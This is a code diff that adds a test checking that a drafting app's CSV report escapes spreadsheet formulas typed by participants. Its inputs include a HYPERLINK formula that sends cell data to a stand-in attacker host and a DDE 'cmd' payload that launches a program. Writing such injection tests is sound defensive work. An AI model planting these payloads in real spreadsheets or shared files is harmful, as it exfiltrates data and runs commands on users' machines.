@@ -225,3 +225,41 @@ describe("the input report and participation metrics of a seeded negotiation", (
     expect(body.metrics.total).toMatchObject({ made: 5, accepted: 1, rejected: 1 });
   });
 });
+
+describe("the report as CSV, when what people typed looks like a formula", () => {
+  it("neutralises every cell a spreadsheet would run, whoever typed it", async () => {
+    const t = await testServer();
+    const clients: EditorClient[] = [];
+    try {
+      const account = (email: string) => DEMO_ACCOUNTS.find((a) => a.email.startsWith(email))!;
+      const facilitator = await EditorClient.open(t.server.url, account("facilitator"), DRAFT);
+      const kenya = await EditorClient.open(t.server.url, account("kenya"), DRAFT);
+      clients.push(facilitator, kenya);
+      const formulas = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3"];
+      for (const [i, text] of formulas.entries()) {
+        kenya.suggest((s) => s.tr.insertText(text, positionIn(s.doc, ops[i]!)));
+        await kenya.collab.acknowledged();
+      }
+      const { body } = await getJSON<{ suggestions: { id: string; inserted: string }[] }>(
+        `${t.server.url}/api/drafts/${DRAFT}/suggestions`,
+      );
+      const first = body.suggestions.find((s) => s.inserted === formulas[0])!;
+      await facilitator.http.post(`/api/drafts/${DRAFT}/suggestions/${first.id}/decision`, {
+        decision: "reject",
+        reason: "@SUM(A1:A9) is not a reason",
+      });
+
+      const csv = await fetch(`${t.server.url}/api/drafts/${DRAFT}/report?revision=live&format=csv`);
+      const [header, ...records] = parseCSV(await csv.text());
+      const inserted = records.map((record) => record[header!.indexOf("inserted")]);
+      expect(inserted.sort()).toEqual(formulas.map((formula) => `'${formula}`).sort());
+      const reasons = records.map((record) => record[header!.indexOf("reason")]).filter(Boolean);
+      expect(reasons).toEqual(["'@SUM(A1:A9) is not a reason"]);
+      // No cell of the file starts a formula.
+      for (const cell of records.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    } finally {
+      for (const client of clients) client.close();
+      await t.stop();
+    }
+  });
+});
